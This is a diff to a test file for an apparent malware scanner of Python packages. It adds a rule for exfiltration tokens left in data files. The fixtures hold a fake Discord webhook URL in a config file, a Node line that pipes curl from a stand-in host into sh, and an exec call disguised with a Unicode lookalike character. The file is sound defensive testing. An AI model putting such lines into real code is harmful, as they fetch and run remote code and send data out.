@@ -7,6 +7,7 @@ import type { Rule } from '../../../src/core/rule.js';
 import { loadPythonParser } from '../../../src/python/parser.js';
 import compiledCode from '../../../src/rules/compiled-code.js';
 import dataCallsCode from '../../../src/rules/data-calls-code.js';
+import dropTokenInData from '../../../src/rules/drop-token-in-data.js';
 import downloadThenRun from '../../../src/rules/download-then-run.js';
 import hiddenCharacters from '../../../src/rules/hidden-characters.js';
 import nativeOutOfPlace from '../../../src/rules/native-out-of-place.js';
@@ -109,4 +110,10 @@ test('machine code tells the texts in it, and where it has no place', async () =
 test('hidden text is told with its line', async () => {
   const { findings } = await analysedWheel({ 'garden/__init__.py': 'x = 1\n\uff45xec(x)\n' }, { hiddenCharacters });
   expect(findings).toMatchObject([{ severity: 'critical', file: 'garden/__init__.py', line: 2, snippet: '\uff45xec(x)' }]);
+});
+
+test('a token in settings is told, and what a script for Node fetches and runs', async () => {
+  const token = `https://discord.com/api/webhooks/${'1'.repeat(18)}/${'a1'.repeat(34)}`;
+  const files = { 'garden/__init__.py': large, 'garden/config.json': `{"to": "${token}"}`, 'garden/a.js': 'require("child_process").execSync("curl https://garden.invalid/a | sh")' };
+  expect(await told(files, { dropTokenInData, scriptCommands })).toEqual(['medium garden/config.json', 'low garden/a.js']);
 });
